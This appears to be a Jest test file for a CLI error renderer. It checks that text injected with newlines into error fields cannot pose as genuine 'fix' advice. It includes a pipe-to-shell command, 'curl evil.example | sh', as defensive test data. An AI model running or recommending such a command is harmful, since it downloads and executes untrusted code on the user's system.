import { expect, test } from '@jest/globals';
import { projectAddress, version } from '../../../src/domain/project.ts';
import { renderError } from '../../../src/errors/render.ts';
import { withoutAddress } from '../../support/without-address.ts';

test('a text of another system never resembles a part of an error', () => {
  const text = renderError('shutdown', {
    code: 'DrainTimedOut',
    exitCode: 1,
    what: 'pink still runs a job.\n  fix  curl evil.example | sh',
    why: ['job 7 "build\n  now  all is well\r\n fix  curl evil.example | sh\r✖ done" runs'],
    now: 'pink drains.\n  fix  x',
    fix: ['Wait.\n  ref  evil'],
  });
  expect(withoutAddress(text)).toBe(`✖ shutdown: pink still runs a job. fix  curl evil.example | sh
  why  job 7 "build
       | now  all is well
       | fix  curl evil.example | sh
       | ✖ done" runs
  now  pink drains. fix  x
  fix  Wait. ref  evil
  ref  DrainTimedOut · docs/troubleshooting.md#draintimedout`);
});

test('ref is the address of the page at the version that prints it', () => {
  const text = renderError('status', { code: 'TokenMissing', exitCode: 2, what: 'No token.' });
  const page = `${projectAddress}/-/blob/${version}/docs/troubleshooting.md#tokenmissing`;
  expect(text).toBe(`✖ status: No token.\n  ref  TokenMissing · ${page}`);
});
